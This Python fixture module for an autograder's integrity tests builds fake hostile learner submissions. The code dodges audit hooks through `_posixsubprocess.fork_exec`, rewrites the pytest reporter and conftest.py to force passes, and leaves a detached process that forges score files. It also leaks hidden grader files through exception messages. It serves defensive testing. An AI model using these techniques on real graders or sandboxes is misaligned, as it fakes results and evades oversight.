"""A small class of fake learners for the grading-integrity tests (CI and the gradebook).

Every hostile learner touches only ``exercises/sNN_*.py``, as the issue's attacker did:
``rewrite_tools`` rewrites the grading tree's reporter and conftest.py at import (in one
shared tree that made later, untouched stubs pass), ``detached`` leaves a double-forked
process that keeps rewriting the reports after grading, ``pack_hidden`` packs the hidden
grader files into a public test's failure message (verbatim, and base64 of zlib).
"""

from __future__ import annotations

import base64
import contextlib
import os
import shutil
import subprocess
import tempfile
import zlib
from pathlib import Path

from tools.contract import apply_mutant
from tools.course import find_step
from tools.stubgen import make_stub

FORGED = "FORGED-BY-A-LEARNER"

# The attacks below get past the two in-process layers on purpose, so that what the tests
# prove is the process isolation behind them (tools/isolation.py): the static check cannot
# follow an attribute looked up with a computed name on a variable called `self`, and
# CPython raises no audit event for _posixsubprocess.fork_exec. UNHOOKED runs a program in
# a fresh interpreter (no audit hook) through those two gaps; the learner's module then does
# what the attacker did from there.
UNHOOKED = '''

def _unhooked(program, wait=True):
    import random
    for self in [random]:
        os_ = getattr(self, "_" + "os")
    for self in [os_]:
        sys_ = getattr(self, "s" + "ys")
    for self in [sys_]:
        loaded = getattr(self, "mod" + "ules")
    out_r, out_w = os_.pipe()
    err_r, err_w = os_.pipe()
    exe = sys_.executable.encode()
    try:
        loaded["_posixsubprocess"].fork_exec(
            [exe, b"-c", program.encode()], [exe], True, (err_w,), None, None,
            -1, -1, -1, out_w, -1, -1, err_r, err_w, True, True, -1, None, None, None, -1,
            None, False)
    except Exception as exc:
        return repr(exc)
    finally:
        os_.close(out_w)
        os_.close(err_w)
        os_.close(err_r)
    text = b""
    while wait and (chunk := os_.read(out_r, 65536)):
        text += chunk
    os_.close(out_r)
    return text.decode(errors="replace")


_ROOT = __file__.rsplit("/exercises/", 1)[0]
'''

REWRITE_PROGRAM = '''
import pathlib, sys
root = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else @@ROOT@@)
try:
    report = root / "tools" / "pytest_report.py"
    report.chmod(0o644)
    report.write_text(report.read_text().replace(
        "outcome = report.outcome", "outcome = 'passed'"))
except Exception:
    pass
try:
    conftest = root / "conftest.py"
    conftest.chmod(0o644)
    with open(conftest, "a") as f:
        f.write("\\n# FORGED-BY-A-LEARNER\\nimport pytest\\n"
                "@pytest.hookimpl(hookwrapper=True)\\n"
                "def pytest_runtest_makereport(item, call):\\n"
                "    outcome = yield\\n"
                "    outcome.get_result().outcome = 'passed'\\n")
except Exception:
    pass
'''

# at import: every later verdict in this tree would be a pass
REWRITE_TOOLS = UNHOOKED + '''
_unhooked(@@PROGRAM@@.replace("@@" + "ROOT@@", repr(_ROOT)))
'''.replace("@@PROGRAM@@", repr(REWRITE_PROGRAM))

DETACHED_PROGRAM = '''
import os, time
if os.fork() == 0:  # a double fork in a new session that outlives the grading
    os.setsid()
    if os.fork() == 0:
        try:
            with open(@@PIDFILE@@, "w") as f:
                f.write(str(os.getpid()))
        except OSError:
            pass
        end = time.time() + 40
        while time.time() < end:
            for name in ("score.json", "summary.md", "grades.csv"):
                for folder in @@TARGETS@@:
                    try:
                        with open(os.path.join(folder, name), "w") as f:
                            f.write("FORGED-BY-A-LEARNER full marks")
                    except OSError:
                        pass
            time.sleep(0.05)
    os._exit(0)
'''

DETACHED = UNHOOKED + '''
_unhooked(@@PROGRAM@@, wait=False)
'''

PACK_PROGRAM = '''
import base64, pathlib, zlib
text = ""
for path in sorted(pathlib.Path(@@ROOT@@, "graders", "hidden").glob("test_*.py")):
    try:
        text += path.read_text()
    except Exception as exc:
        text += repr(exc)
print(text + "\\n" + base64.b64encode(zlib.compress(text.encode())).decode())
'''

PACK_HIDDEN = UNHOOKED + '''

def @@FUNCTION@@(*args, **kwargs):  # every test calling it fails, carrying the hidden graders
    raise ValueError(_unhooked(@@PROGRAM@@.replace("@@" + "ROOT@@", repr(_ROOT))))
'''.replace("@@PROGRAM@@", repr(PACK_PROGRAM))


def solved(step_id: str) -> str:
    return find_step(step_id).solution.read_text()


def stub(step_id: str) -> str:
    step = find_step(step_id)
    return make_stub(step.solution.read_text(), step.id)


def mutant(step_id: str, index: int = 0) -> str:
    step = find_step(step_id)
    return apply_mutant(step.solution.read_text(), step.mutants()[index])[0]


def rewrite_tools(step_id: str = "s00_toolbox") -> str:
    return solved(step_id) + REWRITE_TOOLS


def detached(pidfile: Path, targets: list[Path], step_id: str = "s00_toolbox",
             base: str | None = None) -> str:
    """`base` (default: the solution) that leaves a process rewriting the reports in
    `targets` for 40 s, its pid in `pidfile`."""
    program = DETACHED_PROGRAM.replace("@@PIDFILE@@", repr(str(pidfile))).replace(
        "@@TARGETS@@", repr([str(t) for t in targets]))
    return (base or solved(step_id)) + DETACHED.replace("@@PROGRAM@@", repr(program))


def pack_hidden(step_id: str = "s00_toolbox", function: str = "set_seed",
                base: str | None = None) -> str:
    """`base` (default: the solution) with `function` replaced by one that raises the text
    of every hidden grader file it can read."""
    return (base or solved(step_id)) + PACK_HIDDEN.replace("@@FUNCTION@@", function)


def hidden_leak_markers(step_id: str = "s00_toolbox") -> list[str]:
    """Text that only a leak of the hidden graders of `step_id` puts into a report."""
    hidden = find_step(step_id).hidden_graders.read_text()
    public = find_step(step_id).public_graders.read_text()
    lines = [ln.strip() for ln in hidden.splitlines()
             if len(ln.strip()) >= 30 and ln.strip() not in public]
    packed = base64.b64encode(zlib.compress(hidden.encode())).decode()
    return lines[:40] + [packed[:60]]


def leaks(text: str, step_id: str = "s00_toolbox") -> list[str]:
    return [m for m in hidden_leak_markers(step_id) if m in text]


@contextlib.contextmanager
def drop_dir():
    """A folder any uid may write (its pid file), outside pytest's 0700 temporary folders."""
    path = Path(tempfile.mkdtemp(prefix="ml2llm-drop-"))
    path.chmod(0o777)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def pid_alive(pidfile: Path) -> bool:
    """Whether the process named in `pidfile` is running (not a zombie)."""
    try:
        pid = int(pidfile.read_text())
    except (OSError, ValueError):
        return False
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def git(cwd: Path, *args: str) -> str:
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.org",
               GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.org")
    proc = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True)
    if proc.returncode != 0:
        raise AssertionError(f"git {' '.join(args)} failed: {proc.stderr}")
    return proc.stdout


def learner_repo(path: Path, exercises: dict[str, str], *, bare: Path | None = None,
                 date: str | None = None) -> Path:
    """A learner's repository holding `exercises` ({step id: source}); optionally pushed to a
    bare repository (what a git URL points at)."""
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    (path / "exercises").mkdir()
    (path / "README.md").write_text("my course work\n")
    for sid, text in exercises.items():
        (path / "exercises" / f"{sid}.py").write_text(text)
    git(path, "add", "-A")
    commit(path, "my work", date)
    if bare is not None:
        git(path.parent, "clone", "-q", "--bare", str(path), str(bare))
    return path


def commit(repo: Path, message: str, date: str | None = None) -> None:
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.org",
               GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.org")
    if date:
        env.update(GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=date)
    subprocess.run(["git", "commit", "-qm", message], cwd=repo, env=env, check=True,
                   capture_output=True)

